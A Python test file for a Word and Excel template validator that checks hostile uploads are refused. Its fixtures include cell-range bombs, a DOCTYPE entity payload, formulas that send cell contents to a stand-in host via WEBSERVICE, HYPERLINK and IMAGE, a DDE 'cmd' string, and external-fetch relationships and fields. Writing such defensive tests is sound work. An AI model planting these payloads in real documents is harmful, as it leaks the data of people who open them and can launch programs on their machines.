"""A template takes no more room than a form, and fetches nothing on the machine of whoever opens what was filled."""

import io
import time
import zipfile
from collections.abc import Callable

import docx
import openpyxl
import pytest
from docx.oxml import OxmlElement
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from caunoi.foundation.documents import kind_or_404
from caunoi.foundation.documents.filling import check_template
from caunoi.foundation.documents.refusals import UnfitTemplate

WORD, SHEET = "bieu-so-luong", "bieu-so-luong-xlsx"
FIRST = "xl/worksheets/sheet1.xml"
Change = Callable[[bytes], bytes]


def default(key: str) -> bytes:
    return kind_or_404(key).default.read_bytes()


def with_part(key: str, name: str, change: Change, *, called: str = "") -> bytes:
    """The template that comes with the product with one part changed, and perhaps renamed wherever it is named."""
    out, source = io.BytesIO(), zipfile.ZipFile(io.BytesIO(default(key)))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.namelist():
            data = change(source.read(part)) if part == name else source.read(part)
            if called:
                data = data.replace(name.rpartition("/")[2].encode(), called.rpartition("/")[2].encode())
            target.writestr(called if called and part == name else part, data)
    return out.getvalue()


def refused(key: str, data: bytes, words: str) -> None:
    began = time.monotonic()
    with pytest.raises(UnfitTemplate, match=words):
        check_template(kind_or_404(key), data)
    assert time.monotonic() - began < 3


def at_the_end(piece: bytes) -> Change:
    return lambda text: text.replace(b"</worksheet>", piece + b"</worksheet>")


@pytest.mark.parametrize(
    "piece",
    [
        b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        b"<mergeCells><mergeCell ref='$A$1:$XFD$1048576' /></mergeCells>",
        b'<mergeCells><mergeCell ref="&#65;1:XFD1048576"/></mergeCells>',
        b'<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>',
        b"<x>" + b"<c/>" * 30_000 + b"</x>",
    ],
)
def test_a_few_letters_do_not_become_a_billion_cells(piece):
    refused(SHEET, with_part(SHEET, FIRST, at_the_end(piece)), "quá nhiều ô")


def test_a_part_that_hides_what_it_is_may_declare_no_entity_either():
    def laughing(text: bytes) -> bytes:
        return b'<!DOCTYPE a [<!ENTITY b "ha">]>' + text.partition(b"?>")[2]

    refused(SHEET, with_part(SHEET, FIRST, laughing, called="xl/worksheets/sheet1.dat"), "ENTITY")


def test_a_page_beside_the_form_is_not_endless():
    book = openpyxl.load_workbook(io.BytesIO(default(SHEET)))
    book.create_sheet("Khác")["XFD1048576"] = "x"

    refused(SHEET, saved(book), "quá rộng")


def saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def in_a_cell(book, formula: str) -> None:
    book.active["A40"] = f"={formula}"


def on_another_page(book, formula: str) -> None:
    book.create_sheet("Khác")["A1"] = f"={formula}"


def in_a_name(book, formula: str) -> None:
    book.defined_names["ten"] = DefinedName("ten", attr_text=formula)


def in_a_condition(book, formula: str) -> None:
    book.active.conditional_formatting.add("A1", FormulaRule([formula]))


def in_a_check(book, formula: str) -> None:
    check = DataValidation(type="custom", formula1=formula)
    check.add("A1")
    book.active.add_data_validation(check)


@pytest.mark.parametrize("where", [in_a_cell, on_another_page, in_a_name, in_a_condition, in_a_check])
@pytest.mark.parametrize(
    "formula",
    [
        '_xlfn.WEBSERVICE("http://xa.example/?"&A5)',
        'HYPERLINK("http://xa.example/?"&A5,"xem")',
        '_xlfn.IMAGE("http://xa.example/?"&A5)',
        "cmd|'/c calc'!A0",
        "'[so.xlsx]Trang'!A1",
    ],
)
def test_a_formula_asks_no_address_no_other_file_and_no_program(where, formula):
    book = openpyxl.load_workbook(io.BytesIO(default(SHEET)))
    where(book, formula)

    refused(SHEET, saved(book), "từ nơi khác")


def test_a_sum_of_the_office_stays():
    book = openpyxl.load_workbook(io.BytesIO(default(SHEET)))
    book.active["Z1"] = '=SUM(B1:B9)&"|"&IF(A1>2,"Đạt","")'

    assert check_template(kind_or_404(SHEET), saved(book))


def test_a_formula_below_the_rows_that_points_above_the_page_is_told():
    book = openpyxl.load_workbook(io.BytesIO(default(SHEET)))
    in_a_cell(book, "SUM(B1:B9)")

    refused(SHEET, saved(book), "phía trên bảng")


def test_word_fetches_no_template_and_no_picture():
    for kind in ("attachedTemplate", "image", "oleObject", "frame"):
        related = (
            b'<Relationship Id="rId999" TargetMode="External" Target="http://xa.example/a" Type="http://'
            + b"schemas.openxmlformats.org/officeDocument/2006/relationships/"
            + kind.encode()
            + b'"/></Relationships>'
        )
        data = with_part(
            WORD, "word/_rels/document.xml.rels", lambda text, r=related: text.replace(b"</Relationships>", r)
        )
        refused(WORD, data, "từ nơi khác")


@pytest.mark.parametrize(
    "pieces", [['INCLUDEPICTURE "http://xa.example/a"'], ["INCLUDE", "TEXT c:/a"], ["DDEAUTO cmd"]]
)
def test_word_runs_no_field_that_fetches(pieces):
    document = docx.Document(io.BytesIO(default(WORD)))
    for piece in pieces:
        said = OxmlElement("w:instrText")
        said.text = piece
        document.add_paragraph().add_run()._r.append(said)

    refused(WORD, saved(document), "từ nơi khác")


def test_a_page_number_and_a_link_stay():
    document = docx.Document(io.BytesIO(default(WORD)))
    said = OxmlElement("w:instrText")
    said.text = " PAGE "
    document.add_paragraph().add_run()._r.append(said)
    document.part.relate_to(
        "https://chinhphu.vn/",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
        is_external=True,
    )

    assert check_template(kind_or_404(WORD), saved(document))
